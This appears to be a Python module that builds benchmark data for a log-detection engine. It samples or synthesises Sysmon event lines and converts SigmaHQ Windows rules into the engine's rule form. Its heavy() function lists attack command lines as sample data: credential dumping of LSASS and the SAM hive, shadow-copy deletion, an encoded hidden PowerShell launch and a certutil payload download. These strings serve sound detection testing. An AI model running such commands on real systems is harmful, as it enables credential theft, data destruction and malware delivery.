"""What the benchmarks run on: event lines and rules.

Lines are real ones where the shared data is (a folder ``shared`` beside the checkout, or
``CARENGINE_SHARED``), taken evenly from all its Mordor archives; elsewhere they are made up in the same
distribution (which channels, which event ids, which fields, how long). Three lanes:

* ``normal``: the lines as they are;
* ``heavy``: lines of process creations only, each made to match one of the rules' patterns;
* ``adversarial``: every text value of every line made unique, so that nothing that was remembered helps.

Rules are SigmaHQ's Windows rules, brought to IR by a converter that is just good enough for measuring
(``carengine[sigma]`` is the real one), as rules over a field map whose fields are the log's own.
"""

from __future__ import annotations

import base64
import io
import itertools
import json
import os
import random
import re
import tarfile
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import yaml

from carengine import ir
from carengine.diagnostics import Block, Source
from carengine.fieldmap import Entry, FieldMap
from carengine.pattern import Pattern, escape
from carengine.rule import Metadata, Rule
from carengine.syntax import ast

HERE = Path(__file__).resolve()


def shared() -> Path | None:
    """The folder of shared data, or None where there is none."""
    for candidate in (
        os.environ.get("CARENGINE_SHARED", ""),
        HERE.parents[1].parent / "shared",
        HERE.parents[2].parent / "shared",
    ):
        if candidate and (Path(candidate) / "mordor").is_dir():
            return Path(candidate)
    return None


# Lines


def lines(wanted: int = 30_000) -> list[bytes]:
    """About this many event lines, each a JSON object."""
    folder = shared()
    return made_up(wanted) if folder is None else _real(folder / "mordor", wanted)


def _real(folder: Path, wanted: int) -> list[bytes]:
    step = max(1, 200_000 // wanted)
    found: list[bytes] = []
    for path in sorted(folder.glob("*.zip")):
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.endswith(".json") and not name.startswith("__MACOSX"):
                    with archive.open(name) as stream:
                        found += itertools.islice(stream, 0, None, step)
    return [line.rstrip(b"\r\n") for line in found if line.startswith(b"{")]


_SHARES = (
    (10, 0.43, ("SourceImage", "TargetImage", "GrantedAccess", "CallTrace")),
    (12, 0.16, ("Image", "TargetObject", "EventType")),
    (13, 0.12, ("Image", "TargetObject", "Details", "EventType")),
    (7, 0.15, ("Image", "ImageLoaded", "Hashes", "Signed", "Signature")),
    (11, 0.05, ("Image", "TargetFilename")),
    (1, 0.04, ("Image", "CommandLine", "ParentImage", "ParentCommandLine", "User", "Hashes")),
    (3, 0.05, ("Image", "DestinationIp", "DestinationPort", "Initiated")),
)


def made_up(wanted: int, seed: int = 1) -> list[bytes]:
    """Made-up Sysmon lines, with the shares and sizes of real ones. The same for the same seed."""
    chance = random.Random(seed)
    names = [f"C:\\Windows\\System32\\{word}.exe" for word in _words(chance, 200)]
    found = []
    for number in range(wanted):
        event_id, _, fields = chance.choices(_SHARES, [share for _, share, _ in _SHARES])[0]
        event: dict[str, Any] = {
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "EventID": event_id,
            "RecordNumber": number,
            "Hostname": "WS1.example.org",
            "SourceName": "Microsoft-Windows-Sysmon",
            "Message": " ".join(_words(chance, 90)),
        }
        event |= {name: chance.choice(names) for name in fields}
        event["ProcessGuid"] = f"{{{chance.getrandbits(128):032x}}}"
        found.append(json.dumps(event).encode())
    return found


def _words(chance: random.Random, number: int) -> list[str]:
    return ["".join(chance.choices("abcdefghijklmnoprstuvwy", k=7)) for _ in range(number)]


def adversarial(plain: list[bytes]) -> list[bytes]:
    """The lines with a number put into every text of 8 characters and more that is no channel or name."""
    counter = itertools.count()
    keep = ("Channel", "SourceName", "EventType", "SourceModuleName")

    def changed(event: dict[str, Any]) -> dict[str, Any]:
        return {
            key: f"{value[:-4]}{next(counter)}{value[-4:]}"
            if isinstance(value, str) and len(value) >= 8 and key not in keep
            else value
            for key, value in event.items()
        }

    return [json.dumps(changed(json.loads(line)), separators=(",", ":")).encode() for line in plain]


def heavy(plain: list[bytes]) -> list[bytes]:
    """The process creations, over and over, with command lines that rules look for."""
    texts = (
        "powershell.exe -nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAA=",
        "cmd.exe /c whoami /all & net user /domain & vssadmin delete shadows /all /quiet",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
        "reg.exe save hklm\\sam C:\\Users\\Public\\sam.save",
        "certutil.exe -urlcache -split -f http://10.0.0.1/a.exe C:\\Users\\Public\\a.exe",
    )
    wanted = [
        event
        for event in map(json.loads, plain)
        if event.get("EventID") == 1 and "CommandLine" in event
    ]
    found = []
    while wanted and len(found) < len(plain) // 4:
        for event in wanted:
            text = texts[len(found) % len(texts)]
            image = "C:\\Windows\\System32\\" + text.split()[0]
            changed = event | {"CommandLine": text, "Image": image}
            found.append(json.dumps(changed, separators=(",", ":")).encode())
    return found


# Rules

_SYSMON = "Microsoft-Windows-Sysmon/Operational"
_POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
_CATEGORIES: dict[str, tuple[str, tuple[int, ...]]] = {
    "process_creation": (_SYSMON, (1,)),
    "file_change": (_SYSMON, (2,)),
    "network_connection": (_SYSMON, (3,)),
    "sysmon_status": (_SYSMON, (4, 16)),
    "driver_load": (_SYSMON, (6,)),
    "image_load": (_SYSMON, (7,)),
    "create_remote_thread": (_SYSMON, (8,)),
    "raw_access_thread": (_SYSMON, (9,)),
    "process_access": (_SYSMON, (10,)),
    "file_event": (_SYSMON, (11,)),
    "registry_event": (_SYSMON, (12, 13, 14)),
    "registry_add": (_SYSMON, (12,)),
    "registry_delete": (_SYSMON, (12,)),
    "registry_set": (_SYSMON, (13,)),
    "create_stream_hash": (_SYSMON, (15,)),
    "pipe_created": (_SYSMON, (17, 18)),
    "wmi_event": (_SYSMON, (19, 20, 21)),
    "dns_query": (_SYSMON, (22,)),
    "file_delete": (_SYSMON, (23, 26)),
    "process_tampering": (_SYSMON, (25,)),
    "file_executable_detected": (_SYSMON, (29,)),
    "sysmon_error": (_SYSMON, (255,)),
    "ps_module": (_POWERSHELL, (4103,)),
    "ps_script": (_POWERSHELL, (4104,)),
    "ps_classic_start": ("Windows PowerShell", (400,)),
}
_SERVICES = {
    "security": "Security",
    "system": "System",
    "application": "Application",
    "sysmon": _SYSMON,
    "windefend": "Microsoft-Windows-Windows Defender/Operational",
    "powershell-classic": "Windows PowerShell",
    "powershell": _POWERSHELL,
    "taskscheduler": "Microsoft-Windows-TaskScheduler/Operational",
    "wmi": "Microsoft-Windows-WMI-Activity/Operational",
    "firewall-as": "Microsoft-Windows-Windows Firewall With Advanced Security/Firewall",
}


def sigma_rules() -> tuple[list[Rule], FieldMap] | None:
    """SigmaHQ's Windows rules, and the field map they are written for; None without the shared data."""
    folder = shared()
    if folder is None:
        return None
    kinds: dict[ir.EventKind, ir.Condition] = {}
    fields: dict[ir.EventKind, set[str]] = {}
    rules = []
    for path, text in _documents(folder / "sigma" / "sigmahq-rules-windows.tar.gz"):
        document = yaml.load(text, Loader=getattr(yaml, "CSafeLoader", yaml.SafeLoader))
        if not isinstance(document, dict) or "detection" not in document:
            continue
        source = document["logsource"]
        kind = ir.EventKind("windows", source.get("category") or f"service {source.get('service')}")
        kinds.setdefault(kind, _log_source(source))
        names = fields.setdefault(kind, set())
        condition = _Detection(document["detection"], names).condition()
        plan = ir.Filter(ir.Search((kind,)), ir.simplify(condition))
        rules.append(
            Rule(
                document["id"],
                Metadata(document["title"], level=document.get("level", "")),
                ir.Program((ir.Output("match", plan),)),
                ast.Program(()),
                Block.whole(Source(path, "")),
            )
        )
    entries = tuple(
        Entry(kind, when, {name: ir.Raw((name,)) for name in sorted(fields[kind])})
        for kind, when in kinds.items()
    )
    recognise = ir.Not(ir.IsNull(ir.Raw(("Channel",))))
    return rules, FieldMap("windows.flat", "Windows, flat", recognise, entries)


def _documents(path: Path) -> Iterator[tuple[str, str]]:
    with tarfile.open(path) as archive:
        for member in sorted(archive.getmembers(), key=lambda m: m.name):
            stream = archive.extractfile(member) if member.name.endswith(".yml") else None
            if stream is not None:
                yield member.name, io.TextIOWrapper(stream, "utf-8").read()


def _log_source(source: dict[str, Any]) -> ir.Condition:
    known = _CATEGORIES.get(source.get("category", ""))
    channel = known[0] if known else _SERVICES.get(source.get("service") or "", "other channel")
    test: ir.Condition = ir.Match(ir.Raw(("Channel",)), (Pattern(escape(channel)),))
    if known:
        ids = tuple(Pattern(str(number)) for number in known[1])
        test = ir.And((test, ir.Match(ir.Raw(("EventID",)), ids)))
    return test


_TOKEN = re.compile(r"\(|\)|[^\s()]+")
_DASHES = "-/–—―"


class _Detection:
    """One rule's detections and its condition."""

    def __init__(self, detection: dict[str, Any], names: set[str]) -> None:
        self.names = names
        stated = detection["condition"]
        self.stated = " or ".join(f"({s})" for s in stated) if isinstance(stated, list) else stated
        self.parts = {
            name: self.any(part) for name, part in detection.items() if name != "condition"
        }

    def any(self, part: Any) -> ir.Condition:
        if isinstance(part, dict):
            return ir.And(tuple(self.item(key, value) for key, value in part.items()))
        values = part if isinstance(part, list) else [part]
        return ir.Or(
            tuple(
                self.any(v) if isinstance(v, dict) else ir.RawMatch((Pattern(f"*{_text(v)}*"),))
                for v in values
            )
        )

    def item(self, key: str, value: Any) -> ir.Condition:
        name, *modifiers = key.split("|")
        if not name:
            return self.any([value] if not isinstance(value, list) else value)
        self.names.add(name)
        field = ir.Field(name)
        values = value if isinstance(value, list) else [value]
        tests = [self.test(field, modifiers, one) for one in values]
        if "all" in modifiers:
            return ir.And(tuple(tests))
        patterns = [p for t in tests if isinstance(t, ir.Match) for p in t.patterns]
        rest = [t for t in tests if not isinstance(t, ir.Match)]
        return ir.Or((*([ir.Match(field, tuple(patterns))] if patterns else []), *rest))

    def test(self, field: ir.Field, modifiers: list[str], value: Any) -> ir.Condition:
        if value is None:
            return ir.IsNull(field)
        if "re" in modifiers:
            return ir.Regex(field, str(value), cased="i" not in modifiers)
        if "cidr" in modifiers:
            return ir.InNetwork(field, (str(value),))
        if "fieldref" in modifiers:
            self.names.add(str(value))
            return ir.Compare(field, ir.Relation.EQUAL, ir.Field(str(value)), ir.Type.TEXT)
        if "base64offset" in modifiers:
            raw = str(value).encode()
            texts = [
                base64.b64encode(b" " * i + raw)[(0, 2, 3)[i] : (None, -3, -2)[(len(raw) + i) % 3]]
                for i in range(3)
            ]
            return ir.Match(field, tuple(Pattern(f"*{escape(t.decode())}*", True) for t in texts))
        text = _text(value)
        if "windash" in modifiers:
            texts = [re.sub(r"(^|\s)[-/]", lambda m, d=d: m[1] + d, text) for d in _DASHES]
        else:
            texts = [text]
        before = "*" if "contains" in modifiers or "endswith" in modifiers else ""
        after = "*" if "contains" in modifiers or "startswith" in modifiers else ""
        return ir.Match(field, tuple(Pattern(before + t + after) for t in dict.fromkeys(texts)))

    def condition(self) -> ir.Condition:
        self.tokens = _TOKEN.findall(self.stated)
        return self.either()

    def take(self, *words: str) -> str | None:
        if self.tokens and (not words or self.tokens[0].lower() in words):
            return self.tokens.pop(0)
        return None

    def either(self) -> ir.Condition:
        items = [self.both()]
        while self.take("or"):
            items.append(self.both())
        return ir.Or(tuple(items))

    def both(self) -> ir.Condition:
        items = [self.one()]
        while self.take("and"):
            items.append(self.one())
        return ir.And(tuple(items))

    def one(self) -> ir.Condition:
        if self.take("not"):
            return ir.Not(ir.IsTrue(self.one()))
        if self.take("("):
            inner = self.either()
            self.take(")")
            return inner
        word = self.take() or ""
        if word.lower() in ("1", "all", "any") and self.take("of"):
            wanted = (self.take() or "").replace("*", ".*").replace("them", ".*")
            found = tuple(p for n, p in self.parts.items() if re.fullmatch(wanted, n))
            return ir.And(found) if word.lower() == "all" else ir.Or(found)
        return self.parts[word]


def _text(value: Any) -> str:
    """A Sigma value as a pattern of ours: Sigma escapes with backslashes."""
    text = str(value).lower() if isinstance(value, bool) else str(value)
    return re.sub(r"\\([\\*?])", lambda m: {"\\": "\\", "*": "[*]", "?": "[?]"}[m[1]], text)
